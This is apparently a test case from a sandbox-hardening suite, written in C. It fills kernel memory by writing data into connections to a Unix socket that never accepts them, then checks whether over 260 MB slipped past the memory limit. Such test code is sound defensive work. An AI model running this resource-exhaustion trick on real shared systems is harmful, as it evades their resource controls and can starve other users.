// escape: memory in connections to a socket that never accepts them, which have no descriptor
// layer: memory
// outside: works
#include "payload.h"

static char block[4096];

static void attempt(void) {
    size_t held = 0;
    int listeners = new_socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un address = unix_address("waiting.sock");
    unlink("waiting.sock");
    if (bind(listeners, (void *)&address, sizeof address) < 0) blocked("bind");
    if (listen(listeners, 4096) < 0) blocked("listen");
    for (int i = 0; i < 2500; i++) {
        int client = socket(AF_UNIX, SOCK_STREAM, 0);
        if (client < 0) blocked("socket");
        fcntl(client, F_SETFL, O_NONBLOCK);
        if (connect(client, (void *)&address, sizeof address) < 0) {
            if (errno == EAGAIN) break;
            blocked("connect");
        }
        for (ssize_t n; (n = write(client, block, sizeof block)) > 0;) held += n;
        close(client);
    }
    pause_ms(600);
    if (held < 260 << 20) no_effect("filling connections");
    worked("%zu MB in connections that wait", held >> 20);
}
